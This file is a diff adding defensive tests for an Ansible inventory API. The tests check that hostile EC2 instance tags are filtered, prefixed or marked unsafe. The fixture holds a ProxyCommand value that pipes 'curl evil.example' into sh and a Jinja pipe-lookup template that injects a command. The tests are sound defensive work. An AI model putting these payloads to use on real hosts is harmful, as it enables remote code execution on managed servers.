@@ -56,3 +56,94 @@ describe('GET /api/inventory/*', () => {
     }
   });
 });
+
+/**
+ * EC2 tags are registry attributes, and tagging an instance is a much weaker permission than
+ * running Ansible: over the real route, a tag is a hostvar only when `inventory.tag_hostvars`
+ * allows it, under `inventory.tag_hostvar_prefix`, and never an `ansible_*` variable.
+ */
+describe('GET /api/inventory/ansible with hostile EC2 tags', () => {
+  const proxy = '-o ProxyCommand="sh -c \'curl -s evil.example | sh\'"';
+  const tagged: GenerationModel = {
+    roles: [],
+    measurements: [],
+    instances: [
+      {
+        instanceId: 'i-tagged',
+        role: 'web',
+        version: '1.0',
+        slot: 0,
+        privateIp: '10.0.9.1',
+        launchedAt: 0,
+        attributes: {
+          ansible_ssh_common_args: proxy,
+          ansible_host: '203.0.113.66',
+          env: 'prod',
+          db_password: 's3cr3t',
+          note: "{{ lookup('pipe', 'id') }}",
+        },
+      },
+    ],
+  };
+  const servers: HttpServer[] = [];
+  const serve = async (inventory: Record<string, unknown> | undefined, d = testDeps()) => {
+    const { config } = parseConfig({ http: { port: 0 }, ...(inventory ? { inventory } : {}) });
+    const server = createHttpServer(config.http, d, {
+      readiness: [],
+      routes: [inventoryRoutes(d, { model: () => tagged, inventory: config.inventory })],
+    });
+    await server.start();
+    servers.push(server);
+    const get = async (path: string) => {
+      const res = await fetch(`${server.url()}${path}`);
+      expect(res.status).toBe(200);
+      return { text: await res.text() };
+    };
+    return { get, deps: d };
+  };
+  afterAll(async () => {
+    for (const s of servers) await s.stop();
+  });
+
+  it('by default exposes no tag: no ansible_* from tags, no secrets, ansible_host stays', async () => {
+    const { get } = await serve(undefined);
+    for (const path of ['/api/inventory/ansible', '/api/inventory/ansible?host=i-tagged']) {
+      const { text } = await get(path);
+      expect(text).not.toContain('ProxyCommand');
+      expect(text).not.toContain('s3cr3t');
+      expect(text).not.toContain('203.0.113.66');
+      const vars = path.includes('host=')
+        ? JSON.parse(text)
+        : JSON.parse(text)._meta.hostvars['i-tagged'];
+      expect(vars).not.toHaveProperty('ansible_ssh_common_args');
+      expect(vars).not.toHaveProperty('env');
+      expect(vars).toMatchObject({ ansible_host: '10.0.9.1', role: 'web' });
+    }
+  });
+
+  it('exposes the allowed tags under the prefix, never as ansible_* variables', async () => {
+    const { get } = await serve({ tag_hostvars: ['env', 'ansible_*', 'note'] });
+    const vars = JSON.parse((await get('/api/inventory/ansible')).text)._meta.hostvars['i-tagged'];
+    expect(vars).toMatchObject({
+      tag_env: 'prod',
+      tag_ansible_ssh_common_args: proxy,
+      tag_note: { __ansible_unsafe: "{{ lookup('pipe', 'id') }}" },
+      ansible_host: '10.0.9.1',
+    });
+    expect(vars).not.toHaveProperty('ansible_ssh_common_args');
+    expect(vars).not.toHaveProperty('tag_db_password');
+  });
+
+  it('without a prefix refuses reserved names, and counts what it refused', async () => {
+    const { get, deps: d } = await serve({ tag_hostvars: ['*'], tag_hostvar_prefix: '' });
+    const vars = JSON.parse((await get('/api/inventory/ansible?host=web-0')).text);
+    expect(vars).toMatchObject({ env: 'prod', ansible_host: '10.0.9.1' });
+    expect(vars).not.toHaveProperty('ansible_ssh_common_args');
+    expect(
+      await metricValue(d, 'fleetline_generate_inventory_tags_refused_total', {
+        reason: 'reserved',
+      }),
+    ).toBe(2);
+    expect(await metricValue(d, 'fleetline_generate_inventory_values_unsafe_total')).toBe(1);
+  });
+});
